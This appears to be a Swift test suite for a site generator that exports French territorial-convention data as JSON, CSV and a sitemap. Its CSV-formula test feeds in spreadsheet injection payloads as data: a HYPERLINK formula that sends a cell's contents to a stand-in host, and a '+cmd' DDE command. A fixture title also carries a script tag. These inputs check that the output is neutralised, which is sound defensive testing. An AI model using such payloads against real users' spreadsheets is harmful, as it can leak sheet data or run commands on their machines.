import Foundation
import Model
@testable import Rendering
import Testing

@Suite("Rendering: open data and sitemap")
struct RenderingOpenDataTests {
    @Test("conventions.json has the shape of FORMAT.md §6, with derived values")
    func json() async throws {
        let site = try await RenderingFixture.site()
        let text = try #require(site["donnees/conventions.json"])
        let root = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
        #expect(root["version"] as? Int == 2)
        #expect(root["date_reference"] as? String == "2016-06-30")
        let conventions = try #require(root["conventions"] as? [[String: Any]])
        #expect(conventions.map { $0["id"] as? String } == ["alpha-2014", "beta-2015"])
        let beta = conventions[1]
        #expect(beta["titre"] as? String == "Convention territoriale globale de Beta <script>alert(1)</script> 2015-2018")
        #expect(beta["phase"] as? String == "en-cours")
        #expect(beta["echelon"] as? String == "local")
        let t = try #require(beta["territoire"] as? [String: Any])
        #expect(t["nom"] as? String == "Beta-sur-Oise")
        #expect(t["type"] as? String == "commune")
        #expect(t["code"] as? String == "02691")
        #expect(t["departement"] as? String == "02")
        let periode = try #require(beta["periode"] as? [String: Any])
        #expect(periode["debut"] as? String == "2015-01-01")
        #expect(periode["fin"] as? String == "2018-12-31")
        let actions = try #require(beta["actions"] as? [String: Any])
        #expect(actions["total"] as? Int == 3)
        #expect(actions["realisees"] as? Int == 1)
        let inds = try #require(beta["indicateurs"] as? [[String: Any]])
        #expect(inds.count == 3)
        // places-horaires: R 20 (2014), C 50 (2018), V 30 (2016): (30-20)/(50-20) = 33 %.
        #expect(inds[0]["id"] as? String == "places-horaires")
        #expect(inds[0]["axe"] as? String == "accueil")
        #expect(inds[0]["objectif"] as? String == "horaires")
        #expect(inds[0]["libelle"] as? String == "Places ouvertes avant 7 h 30 ou après 19 h")
        #expect(inds[0]["unite"] as? String == "places")
        #expect(inds[0]["taux"] as? Int == 33)
        #expect(inds[0]["etat"] as? String == "en-retard")
        // Version 2: every target and result, year → value as written, by year; the reference.
        #expect(text.contains("\"id\":\"places-horaires\",\"axe\":\"accueil\",\"objectif\":\"horaires\",\"libelle\":\"Places ouvertes avant 7 h 30 ou après 19 h\",\"unite\":\"places\",\"sens\":\"hausse\",\"reference\":{\"annee\":2014,\"valeur\":20},\"cibles\":{\"2016\":35,\"2018\":50},\"resultats\":{\"2015\":24,\"2016\":30},"))
        #expect(inds[2]["cibles"] as? [String: Int] == ["2018": 80])
        #expect(inds[2]["resultats"] as? [String: Int] == [:])
        // Each action of the plan, in plan order: id (a positional one too), état, échéance, budget (null when none).
        let liste = try #require(actions["liste"] as? [[String: Any]])
        #expect(liste.map { $0["id"] as? String } == ["creche-gare", "a1-o1-x2", "a2-o1-x1"])
        #expect(liste[0]["etat"] as? String == "en-cours")
        #expect(liste[0]["echeance"] as? String == "2016-03-31")
        #expect(liste[0]["budget"] as? Int == 850000)
        #expect(liste[0]["objectif"] as? String == "horaires")
        #expect(liste[1]["etat"] as? String == "prevue")
        #expect(liste[1]["budget"] is NSNull)
        #expect(liste[2]["echeance"] as? String == "2015-09-01")
        #expect(liste[2]["budget"] as? Int == 45000)
        #expect(text.contains("\"liste\":[{\"id\":\"creche-gare\",\"axe\":\"accueil\",\"objectif\":\"horaires\",\"libelle\":\"Ouvrir une crèche à horaires élargis près de la gare\",\"pilote\":\"Ville de Beta\",\"etat\":\"en-cours\",\"echeance\":\"2016-03-31\",\"budget\":850000},"))
        // No result: taux is null, not absent.
        #expect(inds[2]["id"] as? String == "a2-o1-i1")
        #expect(inds[2]["taux"] is NSNull)
        #expect(inds[2]["etat"] as? String == "non-renseigne")
        // Numbers as written.
        #expect(text.contains("\"valeur\":41.5"))
        #expect(text.contains("\"action_sociale\":31500000.5"))
        // Compact, one convention per line, then the coverage on a line of its own.
        let lines = text.split(separator: "\n")
        #expect(lines.count == 3 + conventions.count)
        #expect(lines[1].hasPrefix("{\"id\":\"alpha-2014\","))
        #expect(lines.first == "{\"version\":2,\"date_reference\":\"2016-06-30\",\"conventions\":[")
        #expect(lines[lines.count - 2] == "],")
        #expect(lines.last?.hasPrefix("\"couverture\":{\"taux\":") == true)
        #expect(lines.last?.hasSuffix("}]}}") == true)
    }

    @Test("indicateurs.csv: the header, one row per indicator and year, RFC 4180 quoting")
    func csv() async throws {
        let site = try await RenderingFixture.site()
        let text = try #require(site["donnees/indicateurs.csv"])
        let rows = text.components(separatedBy: "\r\n")
        #expect(rows[0] == "convention,axe,objectif,indicateur,libelle,unite,annee,reference,cible,resultat,secret")
        #expect(rows.contains("beta-2015,accueil,horaires,places-horaires,Places ouvertes avant 7 h 30 ou après 19 h,places,2016,,35,30,"))
        #expect(rows.contains("beta-2015,accueil,horaires,places-horaires,Places ouvertes avant 7 h 30 ou après 19 h,places,2014,20,,,"))
        #expect(rows.contains("alpha-2014,droits,a2-o1,delai,Délai moyen de traitement d'un dossier,jours,2015,,,16.5,"))
        // Familles at 0: published (nobody to identify); the secret column empty.
        #expect(rows.contains("beta-2015,a2,a2-o1,a2-o1-i1,Familles accueillies au lieu d'accueil enfants-parents,familles,2014,0,,,"))
        // places-horaires has 2014, 2015, 2016, 2018: four rows.
        #expect(rows.filter { $0.hasPrefix("beta-2015,accueil,horaires,places-horaires,") }.count == 4)
        #expect(rows.last == "")
        #expect(OpenData.csvField("a, \"b\"") == "\"a, \"\"b\"\"\"")
        for f in ["a, \"b\"", "\"", "\"\"", "x\ny", "sans rien", "é, \"ü\"", "fin\"", "\r"] {
            var h = HTMLBuffer()
            OpenData.csvField(f, into: &h)
            #expect(h.out == OpenData.csvField(f), "\(f)")
        }
    }

    @Test("indicateurs.csv: a text a spreadsheet would run as a formula starts with a quote; numbers stay numbers")
    func csvFormulas() async throws {
        let convention = ProjectFixture.roubaix
            .replacingOccurrences(of: "libelle: Places en EAJE", with: "libelle: '=HYPERLINK(\"http://x.example/?\"&A1,\"Clic\")'")
            .replacingOccurrences(of: "unite: places", with: "unite: \"+cmd|' /C calc'!A0\"")
            .replacingOccurrences(of: "reference: { annee: 2013, valeur: 850 }", with: "reference: { annee: 2013, valeur: -12 }")
            .replacingOccurrences(of: "libelle: Taux de couverture", with: "libelle: \"@SUM(1+1)\"")
        let fx = ProjectFixture(files: ["content/territoires/roubaix-2014.md": convention])
        defer { fx.cleanup() }
        let site = try await RenderingFixture.site(fx.root)
        let rows = try #require(site["donnees/indicateurs.csv"]).components(separatedBy: "\r\n")
        #expect(rows.contains("roubaix-2014,accueil,a1-o1,places-eaje,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Clic\"\")\",\"'+cmd|' /C calc'!A0\",2013,-12,,,"),
                "\(rows)")
        #expect(rows.contains { $0.hasPrefix("roubaix-2014,accueil,a1-o1,a1-o1-i2,\"'@SUM(1+1)\",%,2013,2.7,") }, "\(rows)")
        for (text, field) in [("=1+1", "\"'=1+1\""), ("+33 3 20", "\"'+33 3 20\""), ("-5", "\"'-5\""), ("@x", "\"'@x\""),
                              ("\tx", "\"'\tx\""), ("\rx", "\"'\rx\""), ("=\"a\"", "\"'=\"\"a\"\"\""),
                              ("a=b", "a=b"), ("Places", "Places"), ("", ""), (" =x", " =x")] {
            #expect(OpenData.csvField(text) == field, "\(text.debugDescription)")
            var h = HTMLBuffer()
            OpenData.csvField(text, into: &h)
            #expect(h.out == field, "\(text.debugDescription)")
        }
    }

    @Test("sitemap.xml: absolute URLs from site.url, every public page, not the report")
    func sitemap() async throws {
        let site = try await RenderingFixture.site(options: RenderOptions(revue: true))
        let xml = try #require(site["sitemap.xml"])
        #expect(xml.hasPrefix("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"))
        #expect(xml.contains("<loc>https://ctg.exemple.fr/</loc>"))
        #expect(xml.contains("<loc>https://ctg.exemple.fr/territoires/beta-2015/</loc>"))
        #expect(xml.contains("<loc>https://ctg.exemple.fr/territoires/alpha-2014/diagnostic/</loc>"))
        #expect(!xml.contains("controle"))
        let locs = HTMLScan.elements("loc", in: xml)
        #expect(locs.count == site.pages.count - 1)
    }

    @Test("JSON strings: quotes, backslashes, control characters and line separators escaped, the rest kept")
    func jsonStrings() throws {
        let tricky = "a\"b\\c\nd\re\tf\u{1}g\u{2028}h\u{2029}i é 🙂 </script>"
        var w = JSONWriter()
        w.open()
        w.key("k"); w.string(tricky)
        w.key("n"); w.string(nil)
        w.key("l"); w.strings(["x", "y"])
        w.close()
        #expect(w.out.hasPrefix("{\"k\":\"a\\\"b\\\\c\\nd\\re\\tf\\u0001g\\u2028h\\u2029i é 🙂 </script>\","))
        let back = try #require(try JSONSerialization.jsonObject(with: Data(w.out.utf8)) as? [String: Any])
        #expect(back["k"] as? String == tricky)
        #expect(back["n"] is NSNull)
        #expect(back["l"] as? [String] == ["x", "y"])
    }

    @Test("JSON numbers: as written when valid JSON, else the value")
    func numbers() {
        #expect(OpenData.number(Nombre("27.5")!) == "27.5")
        #expect(OpenData.number(Nombre("1e6")!) == "1e6")
        #expect(OpenData.number(Nombre("+5")!) == "5")
        #expect(OpenData.number(Nombre("5.")!) == "5")
        #expect(OpenData.number(Nombre(".5")!) == "0.5")
    }
}
